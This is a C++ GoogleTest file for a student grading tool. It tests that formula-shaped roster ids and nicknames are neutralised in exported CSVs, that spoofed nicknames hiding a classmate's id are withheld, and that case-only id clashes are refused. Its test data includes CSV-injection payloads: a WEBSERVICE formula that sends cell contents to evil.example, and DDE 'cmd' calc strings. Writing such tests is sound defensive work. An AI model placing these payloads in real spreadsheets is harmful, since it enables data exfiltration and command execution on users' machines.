// Spreadsheets (issue 36, item 5): roster ids, repositories and nicknames that a spreadsheet
// would run as formulas (=WEBSERVICE(...), @SUM(...), -2+3+cmd|...) reach gradebook.csv and
// leaderboard-identities.csv as text; a nickname that hides a classmate's id behind a zero-width
// space or fullwidth letters is not published; roster ids that differ only by case are refused.
#include "grader/process/temp_dir.h"
#include "tests/surfaces/surfaces_support.h"

#include <gtest/gtest.h>

#include <charconv>

namespace cugrade::surfaces {
namespace {

namespace fs = std::filesystem;

// A cell a spreadsheet would evaluate: it starts with = + - @ tab, CR or LF and is no number.
bool executable(const std::string& cell) {
  if (cell.empty() || std::string_view("=+-@\t\r\n").find(cell.front()) == std::string::npos) {
    return false;
  }
  const std::string digits = cell.front() == '+' ? cell.substr(1) : cell;
  double value = 0;
  const auto [end, error] = std::from_chars(digits.data(), digits.data() + digits.size(), value);
  const bool number = error == std::errc() && end == digits.data() + digits.size() &&
                      digits.find_first_not_of("0123456789.eE+-") == std::string::npos;
  return !number;
}

void expect_no_executable_cell(const fs::path& file) {
  const auto rows = csv_cells(file);
  ASSERT_FALSE(rows.empty()) << file;
  for (const auto& row : rows) {
    for (const auto& cell : row) {
      EXPECT_FALSE(executable(cell)) << file.filename() << " has the cell " << cell;
    }
  }
}

// The roster quotes a field holding a quote or a comma, doubling its quotes.
std::string roster_field(const std::string& text) {
  std::string out = "\"";
  for (const char c : text) {
    out += c == '"' ? "\"\"" : std::string(1, c);
  }
  return out + "\"";
}

const std::string webservice = "=WEBSERVICE(\"http://evil.example/?\"&A2)";
// No "://" and no colon: a path that does not exist, not a URL to fetch.
const std::string formula_path = "=WEBSERVICE(\"evil.example/?q=\"&A2)";

TEST(CsvInjection, FormulaIdsAndRepositoriesCannotExecuteInTheGradebook) {
  const process::temp_dir tmp("cugrade-surfaces-csv");
  open_to_everyone(tmp.path());
  class_folder c(tmp.path());
  c.add("@SUM", compile_error_source(), "", "at-sum");
  c.add("-2+3", compile_error_source(), "", "minus");
  c.add("+A1", compile_error_source(), "", "plus");
  c.add("-5", compile_error_source(), "", "number");
  // A repository that is a formula: the fetch's refusal quotes it first in the reason column.
  c.rows += "formula," + roster_field(formula_path) + ",\n";
  const auto out = tmp.path() / "out";
  const auto r = run_batch(c.roster(), out);
  ASSERT_EQ(r.exit_code, 0) << r.err.substr(0, 3000);
  const auto gradebook = out / "gradebook.csv";
  expect_no_executable_cell(gradebook);
  const auto rows = csv_cells(gradebook);
  // Quoted and prefixed with ', as OWASP's guidance on CSV injection says; a number stays one.
  for (const std::string id : {"@SUM", "-2+3", "+A1"}) {
    EXPECT_FALSE(row_starting(rows, "'" + id).empty()) << "no row for '" << id << "\n"
                                                       << text_of(gradebook);
    EXPECT_NE(text_of(gradebook).find("\"'" + id + "\""), std::string::npos);
  }
  EXPECT_FALSE(row_starting(rows, "-5").empty()) << text_of(gradebook);
  const auto formula = row_starting(rows, "formula");
  ASSERT_FALSE(formula.empty()) << text_of(gradebook);
  EXPECT_EQ(formula.back().rfind("'" + formula_path, 0), 0u) << formula.back();
}

// Runs a batch of `c` (sources that do not compile: quick) and publishes its leaderboard.
cli_result publish(const class_folder& c, const fs::path& out) {
  const auto roster = c.roster();
  const auto batch = run_batch(roster, out / "batch");
  EXPECT_EQ(batch.exit_code, 0) << batch.err.substr(0, 3000);
  return run_cugrade({"leaderboard", (out / "batch").string(), "--out", (out / "public").string(),
                      "--roster", roster.string(), "--salt", "surfaces-salt"});
}

TEST(CsvInjection, FormulaNicknamesCannotExecuteInTheIdentitiesCsv) {
  const process::temp_dir tmp("cugrade-surfaces-csv");
  open_to_everyone(tmp.path());
  class_folder c(tmp.path());
  const std::vector<std::string> nicknames{webservice, "@SUM(1+1)*cmd|' /C calc'!A0",
                                           "-2+3+cmd|' /C calc'!A0", "+1+1"};
  for (std::size_t i = 0; i < nicknames.size(); ++i) {
    c.add("s100" + std::to_string(i), compile_error_source(), roster_field(nicknames[i]));
  }
  const auto r = publish(c, tmp.path());
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto identities = tmp.path() / "batch" / "leaderboard-identities.csv";
  expect_no_executable_cell(identities);
  const auto rows = csv_cells(identities);
  for (const auto& nickname : nicknames) {
    const auto row = row_starting(rows, "'" + nickname);
    ASSERT_FALSE(row.empty()) << "no public name '" << nickname << "\n" << text_of(identities);
    EXPECT_EQ(row.at(1), "nickname");
  }
}

TEST(CsvInjection, NicknameHidingAClassmatesIdIsNotPublished) {
  const process::temp_dir tmp("cugrade-surfaces-csv");
  open_to_everyone(tmp.path());
  class_folder c(tmp.path());
  c.add("s2001-bob", compile_error_source(), "Bob the Builder");
  // bob's id with a zero-width space inside, in fullwidth letters, and with a soft hyphen and a
  // right-to-left mark: each reads as "s2001-bob" to a person.
  c.add("s2002-eve", compile_error_source(), "fan of s2001-\u200Bbob");
  c.add("s2003-mal", compile_error_source(), "\uFF53\uFF12\uFF10\uFF10\uFF11-\uFF42\uFF4F\uFF42");
  c.add("s2004-oscar", compile_error_source(), "S2001\u00AD-BO\u200FB");
  const auto r = publish(c, tmp.path());
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto rows = csv_cells(tmp.path() / "batch" / "leaderboard-identities.csv");
  std::map<std::string, std::string> source_of;
  for (const auto& row : rows) {
    if (row.size() > 2) {
      source_of[row.at(2)] = row.at(1);
    }
  }
  EXPECT_EQ(source_of["s2001-bob"], "nickname");
  for (const char* student : {"s2002-eve", "s2003-mal", "s2004-oscar"}) {
    EXPECT_EQ(source_of[student], "pseudonym")
        << student << "'s nickname names a classmate and was published";
    EXPECT_NE(r.err.find("the nickname of " + std::string(student) +
                         " contains a student id, repository or commit"),
              std::string::npos)
        << r.err;
  }
  const auto page = text_of(tmp.path() / "public" / "leaderboard.json");
  EXPECT_EQ(page.find("s2001-\u200Bbob"), std::string::npos);
  EXPECT_EQ(page.find("\uFF53\uFF12\uFF10\uFF10\uFF11"), std::string::npos);
}

TEST(CsvInjection, RosterIdsDifferingOnlyByCaseAreRefused) {
  const process::temp_dir tmp("cugrade-surfaces-csv");
  open_to_everyone(tmp.path());
  class_folder c(tmp.path());
  c.add("alice", compile_error_source(), "", "alice-lower");
  c.add("bob", compile_error_source());
  c.add("Alice", compile_error_source(), "", "alice-upper");
  const auto r = run_batch(c.roster(), tmp.path() / "out");
  EXPECT_EQ(r.exit_code, 2) << "a case-insensitive disk would give alice and Alice one report\n"
                            << r.err.substr(0, 3000);
  // Both lines named: Alice is on line 4, alice on line 2.
  EXPECT_NE(r.err.find("roster.csv:4"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("\"Alice\""), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("\"alice\" on line 2"), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(tmp.path() / "out" / "gradebook.csv"));
}

} // namespace
} // namespace cugrade::surfaces
